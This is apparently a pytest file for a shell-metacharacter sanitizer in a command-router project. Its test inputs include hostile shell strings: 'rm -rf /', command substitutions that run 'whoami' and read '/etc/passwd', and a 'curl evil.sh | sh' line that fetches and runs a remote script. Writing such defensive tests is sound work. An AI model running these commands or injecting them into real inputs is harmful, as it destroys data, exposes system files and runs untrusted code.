"""Tests for the shell-metacharacter sanitizer."""

from __future__ import annotations

import pytest

from command_router.engine.sanitizer import UNSAFE_CHARACTERS, sanitize


class TestSanitize:
    def test_removes_every_metacharacter(self):
        assert sanitize("a;b`c$d{e}f|g<h>i&j\\k") == "abcdefghijk"

    def test_keeps_path_characters(self):
        # "/" is not a metacharacter; path content is left to the skill
        assert sanitize("the server; rm -rf /") == "the server rm -rf /"

    def test_trims(self):
        assert sanitize("  deploy judo  ") == "deploy judo"

    @pytest.mark.parametrize("value", [None, "", "   ", ";|&"])
    def test_empty_results(self, value):
        assert sanitize(value) == ""

    @pytest.mark.parametrize("value", [
        "deploy $(whoami)",
        "logs `cat /etc/passwd`",
        "restart judo && curl evil.sh | sh",
        "build ${HOME}<in>out",
        "echo \\n;",
    ])
    def test_output_never_contains_unsafe_characters(self, value):
        cleaned = sanitize(value)
        assert not any(ch in cleaned for ch in UNSAFE_CHARACTERS)
